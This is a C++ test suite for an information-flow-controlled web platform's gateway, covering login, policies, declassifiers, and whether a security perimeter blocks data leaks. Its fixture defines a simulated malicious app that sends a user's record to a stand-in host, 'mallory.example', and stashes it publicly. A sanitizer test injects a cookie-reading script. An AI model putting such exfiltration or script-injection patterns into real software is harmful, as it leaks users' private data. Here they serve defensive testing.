// End-to-end tests of the W5 request path: signup/login over HTTP, data
// upload, application invocation, and above all the security perimeter —
// every attack the paper worries about in §3.1 appears here as a
// must-block assertion.
#include <gtest/gtest.h>

#include "core/gateway.h"
#include "core/provider.h"

namespace w5::platform {
namespace {

using net::HttpResponse;
using net::Method;

class GatewayTest : public ::testing::Test {
 protected:
  GatewayTest() : provider_(ProviderConfig{}, clock_) {}

  void SetUp() override {
    ASSERT_TRUE(provider_.signup("bob", "bobpw").ok());
    ASSERT_TRUE(provider_.signup("alice", "alicepw").ok());
    ASSERT_TRUE(provider_.signup("charlie", "charliepw").ok());
    bob_ = provider_.login("bob", "bobpw").value();
    alice_ = provider_.login("alice", "alicepw").value();
    charlie_ = provider_.login("charlie", "charliepw").value();

    // A benign viewer app: shows a record it is asked for.
    Module viewer_app;
    viewer_app.developer = "devA";
    viewer_app.name = "view";
    viewer_app.version = "1.0";
    viewer_app.manifest.description = "render a record";
    viewer_app.handler = [](AppContext& ctx) {
      auto record = ctx.get_record(ctx.query_param("c", "photos"),
                                   ctx.query_param("id"));
      if (!record.ok()) return HttpResponse::text(404, "no record\n");
      return HttpResponse::text(200, record.value().data.dump());
    };
    ASSERT_TRUE(provider_.modules().add(viewer_app).ok());

    // A malicious app: reads the target record, then tries several
    // exfiltration channels; whatever it returns, it returns.
    Module evil;
    evil.developer = "mallory";
    evil.name = "steal";
    evil.version = "1.0";
    evil.handler = [this](AppContext& ctx) {
      auto record = ctx.get_record("photos", ctx.query_param("id", "bob1"));
      std::string loot = record.ok() ? record.value().data.dump() : "nothing";
      // Channel 1: ship it to mallory's server.
      auto fetched = ctx.fetch_external("http://mallory.example/?loot=" + loot);
      exfil_attempted_ = true;
      exfil_succeeded_ = fetched.ok();
      // Channel 2: stash it in a public record for later pickup.
      store::Record drop;
      drop.collection = "public-drop";
      drop.id = "loot";
      drop.owner = "mallory";
      drop.data = util::Json(loot);
      stash_succeeded_ = ctx.put_record(drop).ok();
      // Channel 3: return it in the response body (perimeter's problem).
      return HttpResponse::text(200, loot);
    };
    ASSERT_TRUE(provider_.modules().add(evil).ok());

    // Bob uploads a photo through the front door.
    const auto upload = provider_.http(Method::kPost, "/data/photos/bob1",
                                       R"({"title":"bob's secret photo"})",
                                       bob_);
    ASSERT_EQ(upload.status, 201) << upload.body;
  }

  util::SimClock clock_;
  Provider provider_;
  std::string bob_, alice_, charlie_;
  bool exfil_attempted_ = false;
  bool exfil_succeeded_ = false;
  bool stash_succeeded_ = false;
};

TEST_F(GatewayTest, SignupLoginWhoamiFlow) {
  const auto anon = provider_.http(Method::kGet, "/whoami");
  EXPECT_EQ(anon.status, 200);
  EXPECT_EQ(anon.body, R"({"user":null})");

  const auto me = provider_.http(Method::kGet, "/whoami", "", bob_);
  EXPECT_EQ(me.body, R"({"user":"bob"})");

  const auto bad = provider_.http(Method::kPost, "/login",
                                  "user=bob&password=wrong");
  EXPECT_EQ(bad.status, 401);

  const auto login = provider_.http(Method::kPost, "/login",
                                    "user=bob&password=bobpw");
  EXPECT_EQ(login.status, 200);
  EXPECT_TRUE(login.headers.get("Set-Cookie").value_or("").starts_with(
      "w5session="));

  const auto dup = provider_.http(Method::kPost, "/signup",
                                  "user=bob&password=x");
  EXPECT_EQ(dup.status, 400);
}

TEST_F(GatewayTest, LogoutEndsSession) {
  ASSERT_EQ(provider_.http(Method::kGet, "/whoami", "", bob_).body,
            R"({"user":"bob"})");
  ASSERT_EQ(provider_.http(Method::kPost, "/logout", "", bob_).status, 200);
  EXPECT_EQ(provider_.http(Method::kGet, "/whoami", "", bob_).body,
            R"({"user":null})");
}

TEST_F(GatewayTest, OwnerReadsOwnDataViaApp) {
  const auto response =
      provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1", "", bob_);
  EXPECT_EQ(response.status, 200) << response.body;
  EXPECT_NE(response.body.find("bob's secret photo"), std::string::npos);
}

TEST_F(GatewayTest, BoilerplatePolicyBlocksOtherViewers) {
  // Alice invokes the same benign app on bob's data: the app *can* read
  // it (it contaminates itself), but the perimeter blocks the response.
  const auto response = provider_.http(
      Method::kGet, "/dev/devA/view?c=photos&id=bob1", "", alice_);
  EXPECT_EQ(response.status, 403);
  EXPECT_EQ(response.body.find("secret"), std::string::npos);
  EXPECT_EQ(response.body,
            R"({"error":"export blocked by security perimeter"})");
  EXPECT_EQ(response.headers.get("Content-Type"), "application/json");
  EXPECT_GE(provider_.audit().count(AuditKind::kExportBlocked), 1u);
  // The deny path's audit rows keep their text.
  const auto events = provider_.audit().events();
  ASSERT_GE(events.size(), 2u);
  const AuditEvent& decision = events[events.size() - 2];
  EXPECT_EQ(decision.kind, AuditKind::kDeclassifierDecision);
  EXPECT_EQ(decision.actor, "std/owner-only");
  EXPECT_EQ(decision.subject, "sec(bob)");
  EXPECT_EQ(decision.detail, "declassify.denied viewer=alice");
  const AuditEvent& blocked = events.back();
  EXPECT_EQ(blocked.kind, AuditKind::kExportBlocked);
  EXPECT_EQ(blocked.detail, "owner-only: viewer 'alice' is not owner 'bob'");
}

TEST_F(GatewayTest, AnonymousViewerAlsoBlocked) {
  const auto response =
      provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1");
  EXPECT_EQ(response.status, 403);
}

TEST_F(GatewayTest, MaliciousAppAllChannelsBlocked) {
  const auto response =
      provider_.http(Method::kGet, "/dev/mallory/steal?id=bob1", "", charlie_);
  // Channel 3 (response body): blocked by perimeter.
  EXPECT_EQ(response.status, 403);
  EXPECT_EQ(response.body.find("secret"), std::string::npos);
  // Channel 1 (external fetch): attempted and denied.
  EXPECT_TRUE(exfil_attempted_);
  EXPECT_FALSE(exfil_succeeded_);
  // Channel 2 (public stash): flow-denied by the store.
  EXPECT_FALSE(stash_succeeded_);
  EXPECT_EQ(provider_.store()
                .get(os::kKernelPid, "public-drop", "loot")
                .error().code,
            "store.not_found");
}

TEST_F(GatewayTest, MaliciousAppServingOwnerStillWorks) {
  // Crucial W5 property: bob may use *any* app, even mallory's, on his
  // own data — the backstop is the perimeter, not app vetting.
  const auto response =
      provider_.http(Method::kGet, "/dev/mallory/steal?id=bob1", "", bob_);
  EXPECT_EQ(response.status, 200);
  EXPECT_NE(response.body.find("secret photo"), std::string::npos);
  // The side channels were still blocked even for bob's request.
  EXPECT_FALSE(exfil_succeeded_);
  EXPECT_FALSE(stash_succeeded_);
}

TEST_F(GatewayTest, FriendListDeclassifierSharesWithFriendsOnly) {
  // Bob switches his policy to the friend-list declassifier and uploads
  // his friend list (alice yes, charlie no).
  ASSERT_EQ(provider_.http(Method::kPost, "/data/friends/bob",
                           R"({"friends":["alice"]})", bob_).status,
            201);
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"std/friends"})", bob_).status,
            200);

  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1",
                           "", alice_).status,
            200);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1",
                           "", charlie_).status,
            403);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devA/view?c=photos&id=bob1",
                           "", bob_).status,
            200);
}

TEST_F(GatewayTest, PolicyEndpointValidation) {
  EXPECT_EQ(provider_.http(Method::kGet, "/policy").status, 401);
  EXPECT_EQ(provider_.http(Method::kPost, "/policy", "not json", bob_).status,
            400);
  EXPECT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"no/such"})", bob_).status,
            400);
  const auto get = provider_.http(Method::kGet, "/policy", "", bob_);
  EXPECT_EQ(get.status, 200);
  EXPECT_NE(get.body.find("owner-only"), std::string::npos);
}

TEST_F(GatewayTest, DataEndpointRules) {
  EXPECT_EQ(provider_.http(Method::kPost, "/data/photos/x", "{}").status, 401);
  EXPECT_EQ(provider_.http(Method::kPost, "/data/photos/x", "not json", bob_)
                .status,
            400);
  // GET /data passes the perimeter: owner yes, stranger no.
  EXPECT_EQ(provider_.http(Method::kGet, "/data/photos/bob1", "", bob_).status,
            200);
  EXPECT_EQ(
      provider_.http(Method::kGet, "/data/photos/bob1", "", alice_).status,
      403);
  EXPECT_EQ(provider_.http(Method::kGet, "/data/photos/nope", "", bob_).status,
            404);
  // Delete: only the owner (write-protected).
  EXPECT_EQ(
      provider_.http(Method::kDelete, "/data/photos/bob1", "", alice_).status,
      403);
  EXPECT_EQ(
      provider_.http(Method::kDelete, "/data/photos/bob1", "", bob_).status,
      200);
}

TEST_F(GatewayTest, WriteGrantGatesAppWrites) {
  // An editor app that rewrites the title of bob's photo.
  Module editor;
  editor.developer = "devB";
  editor.name = "edit";
  editor.version = "1.0";
  editor.handler = [](AppContext& ctx) {
    auto record = ctx.get_record("photos", ctx.query_param("id"));
    if (!record.ok()) return HttpResponse::text(404, "no record");
    record.value().data["title"] = "edited";
    auto written = ctx.put_record(record.value());
    return written.ok() ? HttpResponse::text(200, "saved")
                        : HttpResponse::text(403, written.error().code);
  };
  ASSERT_TRUE(provider_.modules().add(editor).ok());

  // Re-upload bob1 (earlier tests may have deleted it in other fixtures).
  ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/bob2",
                           R"({"title":"original"})", bob_).status,
            201);

  // Without a write grant the app cannot save.
  auto blocked = provider_.http(Method::kGet, "/dev/devB/edit?id=bob2", "",
                                bob_);
  EXPECT_EQ(blocked.status, 403) << blocked.body;

  // Bob grants devB/edit write privilege; now it can.
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"write_grants":["devB/edit"]})", bob_).status,
            200);
  auto allowed =
      provider_.http(Method::kGet, "/dev/devB/edit?id=bob2", "", bob_);
  EXPECT_EQ(allowed.status, 200) << allowed.body;
  EXPECT_EQ(provider_.store().get(os::kKernelPid, "photos", "bob2").value()
                .data.at("title").as_string(),
            "edited");
}

TEST_F(GatewayTest, ReadProtectionHidesPrivateCollections) {
  // Bob marks "diary" as private; records there carry rp(bob).
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"private_collections":["diary"]})", bob_)
                .status,
            200);
  ASSERT_EQ(provider_.http(Method::kPost, "/data/diary/d1",
                           R"({"entry":"deep secret"})", bob_).status,
            201);

  // The viewer app cannot even see the record without a read grant —
  // rp(bob)+ is not global.
  const auto hidden = provider_.http(
      Method::kGet, "/dev/devA/view?c=diary&id=d1", "", bob_);
  EXPECT_EQ(hidden.status, 404) << hidden.body;

  // Bob grants devA/view read access; the record becomes visible and
  // exports to bob (rp is always owner-only at the perimeter).
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"private_collections":["diary"],
                               "read_grants":["devA/view"]})",
                           bob_).status,
            200);
  const auto shown = provider_.http(
      Method::kGet, "/dev/devA/view?c=diary&id=d1", "", bob_);
  EXPECT_EQ(shown.status, 200) << shown.body;
  EXPECT_NE(shown.body.find("deep secret"), std::string::npos);

  // Even with a policy that exports sec(bob) publicly, rp blocks alice.
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"std/public",
                               "private_collections":["diary"],
                               "read_grants":["devA/view"]})",
                           bob_).status,
            200);
  // Read grants attach to requests *by the granting user*; a request on
  // alice's behalf carries no rp(bob)+ at all, so the record is simply
  // invisible to the app — blocked even earlier than the perimeter.
  const auto blocked = provider_.http(
      Method::kGet, "/dev/devA/view?c=diary&id=d1", "", alice_);
  EXPECT_EQ(blocked.status, 404) << blocked.body;
  EXPECT_EQ(blocked.body.find("deep secret"), std::string::npos);
}

TEST_F(GatewayTest, VersionSelectionExplicitPinnedLatest) {
  Module v1;
  v1.developer = "devC";
  v1.name = "tool";
  v1.version = "1.0";
  v1.handler = [](AppContext&) { return HttpResponse::text(200, "v1"); };
  Module v2 = v1;
  v2.version = "2.0";
  v2.handler = [](AppContext&) { return HttpResponse::text(200, "v2"); };
  ASSERT_TRUE(provider_.modules().add(v1).ok());
  ASSERT_TRUE(provider_.modules().add(v2).ok());

  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool", "", bob_).body,
            "v2");  // latest
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool?version=1.0", "",
                           bob_).body,
            "v1");  // explicit
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"version_pins":{"devC/tool":"1.0"}})", bob_)
                .status,
            200);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool", "", bob_).body,
            "v1");  // pinned
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devC/tool", "", alice_).body,
            "v2");  // other users unaffected
}

TEST_F(GatewayTest, UnknownAppAndMalformedRoutes) {
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/nobody/nothing").status, 404);
  EXPECT_EQ(provider_.http(Method::kGet, "/no/such/route").status, 404);
  EXPECT_EQ(provider_.http(Method::kPut, "/signup").status, 405);
}

TEST_F(GatewayTest, AppExceptionYieldsScrubbed500) {
  Module crasher;
  crasher.developer = "devD";
  crasher.name = "crash";
  crasher.version = "1.0";
  crasher.handler = [](AppContext& ctx) -> HttpResponse {
    // Read a secret, then crash: the diagnostic must not leak the secret.
    (void)ctx.get_record("photos", "bob1");
    throw std::runtime_error("crash with bob's secret photo inside");
  };
  ASSERT_TRUE(provider_.modules().add(crasher).ok());
  const auto response =
      provider_.http(Method::kGet, "/dev/devD/crash", "", alice_);
  EXPECT_EQ(response.status, 500);
  EXPECT_EQ(response.body.find("secret"), std::string::npos);
  // Audit recorded the failure without the message (type name only).
  const auto events = provider_.audit().for_actor("devD/crash@1.0");
  ASSERT_FALSE(events.empty());
  for (const auto& event : events)
    EXPECT_EQ(event.detail.find("secret"), std::string::npos);
}

TEST_F(GatewayTest, QuotaExhaustionYields503NotPartialData) {
  ProviderConfig config;
  config.request_limits.cpu_ticks = 5;  // tiny per-request budget
  util::SimClock clock;
  Provider provider(config, clock);
  ASSERT_TRUE(provider.signup("bob", "pwd").ok());
  const std::string session = provider.login("bob", "pwd").value();

  Module hog;
  hog.developer = "devE";
  hog.name = "hog";
  hog.version = "1.0";
  hog.handler = [](AppContext& ctx) {
    for (int i = 0; i < 1000; ++i) {
      if (!ctx.charge(os::Resource::kCpu, 1).ok())
        return HttpResponse::text(200, "partial secret data");
    }
    return HttpResponse::text(200, "done");
  };
  ASSERT_TRUE(provider.modules().add(hog).ok());
  const auto response = provider.http(Method::kGet, "/dev/devE/hog", "",
                                      session);
  EXPECT_EQ(response.status, 503);
  EXPECT_EQ(response.body.find("partial"), std::string::npos);
  EXPECT_GE(provider.audit().count(AuditKind::kQuotaKill), 1u);
}

TEST_F(GatewayTest, SanitizerStripsAppScripts) {
  Module scripted;
  scripted.developer = "devF";
  scripted.name = "scripted";
  scripted.version = "1.0";
  scripted.handler = [](AppContext&) {
    return HttpResponse::html(
        200, "<p>ok</p><script>document.cookie</script>");
  };
  ASSERT_TRUE(provider_.modules().add(scripted).ok());
  const auto response =
      provider_.http(Method::kGet, "/dev/devF/scripted", "", bob_);
  EXPECT_EQ(response.status, 200);
  EXPECT_EQ(response.body, "<p>ok</p>");
}

TEST_F(GatewayTest, StatsAndAppsEndpoints) {
  const auto stats = provider_.http(Method::kGet, "/stats");
  EXPECT_EQ(stats.status, 200);
  EXPECT_NE(stats.body.find("\"users\":3"), std::string::npos);
  const auto apps = provider_.http(Method::kGet, "/apps");
  EXPECT_EQ(apps.status, 200);
  EXPECT_NE(apps.body.find("devA/view@1.0"), std::string::npos);
}

TEST_F(GatewayTest, CleanAppUntouchedByPerimeter) {
  Module hello;
  hello.developer = "devG";
  hello.name = "hello";
  hello.version = "1.0";
  hello.handler = [](AppContext& ctx) {
    return HttpResponse::text(200, "hello " + ctx.viewer());
  };
  ASSERT_TRUE(provider_.modules().add(hello).ok());
  // No user data touched → empty label → export needs no declassifier,
  // works for anyone including anonymous.
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devG/hello").body, "hello ");
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devG/hello", "", bob_).body,
            "hello bob");
}

TEST_F(GatewayTest, MultiOwnerResponseNeedsAllDeclassifiers) {
  // Alice uploads a photo; an app mixes bob's and alice's data.
  ASSERT_EQ(provider_.http(Method::kPost, "/data/photos/alice1",
                           R"({"title":"alice's photo"})", alice_).status,
            201);
  Module mixer;
  mixer.developer = "devH";
  mixer.name = "mix";
  mixer.version = "1.0";
  mixer.handler = [](AppContext& ctx) {
    auto a = ctx.get_record("photos", "bob1");
    auto b = ctx.get_record("photos", "alice1");
    return HttpResponse::text(
        200, (a.ok() ? a.value().data.dump() : "") +
                 (b.ok() ? b.value().data.dump() : ""));
  };
  ASSERT_TRUE(provider_.modules().add(mixer).ok());

  // Bob sees only with both owners' approval; owner-only(alice) denies.
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devH/mix", "", bob_).status,
            403);
  // Alice makes her photos public: now bob's request carries approvals
  // for both tags (owner-only(bob) approves bob; public(alice) approves).
  ASSERT_EQ(provider_.http(Method::kPost, "/policy",
                           R"({"declassifier":"std/public"})", alice_).status,
            200);
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devH/mix", "", bob_).status,
            200);
  // Charlie still blocked: owner-only(bob) denies charlie.
  EXPECT_EQ(provider_.http(Method::kGet, "/dev/devH/mix", "", charlie_).status,
            403);
}

TEST_F(GatewayTest, SessionWhoseAccountIsGoneAnswers401) {
  // A session validated just before its account is deleted reaches the
  // account lookup after the delete (pooled dispatch, several loops or
  // concurrent handle() callers). Each route that acts as the viewer
  // answers like an anonymous request, and the store is untouched.
  ASSERT_EQ(provider_.http(Method::kPost, "/data/notes/n1", R"({"k":1})",
                           bob_).status,
            201);
  ASSERT_EQ(provider_.http(Method::kPost, "/invite", "to=bob&app=devA/view",
                           alice_).status,
            201);
  ASSERT_TRUE(provider_.users().remove("bob"));

  EXPECT_EQ(provider_.http(Method::kPost, "/data/notes/n2", R"({"k":2})",
                           bob_).status,
            401);
  EXPECT_EQ(provider_.http(Method::kDelete, "/data/notes/n1", "", bob_)
                .status,
            401);
  EXPECT_EQ(
      provider_.http(Method::kPost, "/accept", "app=devA/view", bob_).status,
      401);
  EXPECT_TRUE(
      provider_.store().get(os::kKernelPid, "notes", "n1").ok());
  EXPECT_FALSE(
      provider_.store().get(os::kKernelPid, "notes", "n2").ok());
  EXPECT_FALSE(provider_.policies().get("bob").grants_write("devA/view"));
}

}  // namespace
}  // namespace w5::platform
